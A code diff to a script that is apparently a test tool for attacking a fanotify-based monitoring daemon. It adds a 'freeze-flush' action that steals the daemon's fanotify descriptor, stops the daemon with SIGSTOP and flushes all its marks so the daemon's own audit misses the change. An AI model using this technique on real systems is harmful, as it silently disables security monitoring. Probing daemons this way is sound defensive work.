@@ -9,6 +9,8 @@ Usage: fanotify_attack.py PID GROUP ACTION [PATH]
           remove-fs     FAN_MARK_REMOVE of the filesystem mark of PATH
           ignore-fs     an ignore mask (open and exec) on the filesystem mark of PATH
           ignore-inode  an ignore mark (open and exec, surviving writes) on the file PATH
+          freeze-flush  SIGSTOP of the daemon, then flush (no probe open is left waiting on the
+                        stopped daemon in between: the flush follows in microseconds)
 Prints what it did; exits 1 when a step fails (errno in the message).
 """
 import ctypes
@@ -62,6 +64,9 @@ def main():
     fd = libc.syscall(SYS_pidfd_getfd, pidfd, target, 0)
     if fd < 0:
         fail(f"pidfd_getfd of fd {target}")
+    if action == "freeze-flush":
+        os.kill(pid, 19)   # SIGSTOP: its own audit cannot see or repair the flush
+        action = "flush"
     if action == "flush":
         for kind in (FAN_MARK_FILESYSTEM, FAN_MARK_MOUNT, 0):
             mark(fd, FAN_MARK_FLUSH | kind, 0, None)
